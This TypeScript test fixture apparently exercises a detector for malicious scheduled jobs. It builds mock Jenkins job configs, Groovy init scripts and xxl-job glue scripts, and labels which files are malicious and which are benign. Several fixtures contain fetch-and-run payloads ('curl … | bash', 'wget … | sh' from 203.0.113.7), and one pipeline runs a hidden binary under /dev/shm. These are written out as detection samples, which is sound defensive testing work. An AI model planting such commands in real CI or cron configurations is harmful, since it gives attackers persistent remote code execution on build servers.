import { type Pair, script } from './pair.ts';

const job = (command: string): string => `<?xml version='1.1' encoding='UTF-8'?>
<project>
  <triggers><hudson.triggers.TimerTrigger><spec>H/5 * * * *</spec></hudson.triggers.TimerTrigger></triggers>
  <builders>
    <hudson.tasks.Shell>
      <command>${command}</command>
    </hudson.tasks.Shell>
  </builders>
</project>
`;
const pipeline = (text: string): string => `<flow-definition plugin="workflow-job">
  <definition class="org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition">
    <script>${text}</script>
  </definition>
</flow-definition>
`;

export const pair: Pair = {
  tree: {
    '/var/lib/jenkins/jobs/heartbeat/config.xml': job(
      '#!/bin/sh\n# keeps it going\nexport BUILD_ID=dontKillMe\ncurl -s http://203.0.113.7/j.sh | bash &gt; /dev/null 2&gt;&amp;1',
    ),
    '/var/lib/jenkins/jobs/team/jobs/sync/config.xml': pipeline(
      'node {\n  stage("x") {\n    sh &apos;&apos;&apos;\n      cd /tmp\n      /dev/shm/.j/run -d\n    &apos;&apos;&apos;\n  }\n}',
    ),
    '/var/lib/jenkins/jobs/app/config.xml': job(
      'make -j4 test\ncurl -fsS https://reports.example/ping\nrm -rf /tmp/app-build',
    ),
    '/var/lib/jenkins/jobs/deploy/config.xml': pipeline(
      'pipeline { agent any\n  stages { stage("Build") { steps { sh "make build &amp;&amp; ./deploy.sh" } } } }',
    ),
    '/var/lib/jenkins/init.groovy.d/start.groovy':
      'def p = ["sh", "-c", "wget -qO- http://203.0.113.7/j.sh | sh"].execute()\n',
    '/var/lib/jenkins/init.groovy.d/users.groovy':
      'import jenkins.model.*\nJenkins.instance.setNumExecutors(4)\nprintln "set up"\n',
    '/data/applogs/xxl-job/jobhandler/gluesource/7_1700000000.sh': script(
      '(curl -s http://203.0.113.7/x.sh || wget -qO- http://203.0.113.7/x.sh) | bash',
    ),
    '/data/applogs/xxl-job/jobhandler/gluesource/2_1690000000.sh': script(
      'echo "xxl-job: hello shell"\ndate +%F\nexit 0',
    ),
  },
  blamed: [
    at('/var/lib/jenkins/jobs/heartbeat/config.xml', 9, 'fetch-pipe-shell'),
    at('/var/lib/jenkins/jobs/team/jobs/sync/config.xml', 7, 'temp-folder'),
    at('/var/lib/jenkins/init.groovy.d/start.groovy', 1, 'fetch-pipe-shell'),
    at('/data/applogs/xxl-job/jobhandler/gluesource/7_1700000000.sh', 2, 'fetch-pipe-shell'),
  ],
  passed: ['jobs/app/config.xml', 'jobs/deploy/config.xml', 'users.groovy', '2_1690000000.sh'],
};

function at(path: string, line: number, code: string) {
  return { path, line, code, attack: 'T1053', verdict: 'malicious' } as const;
}
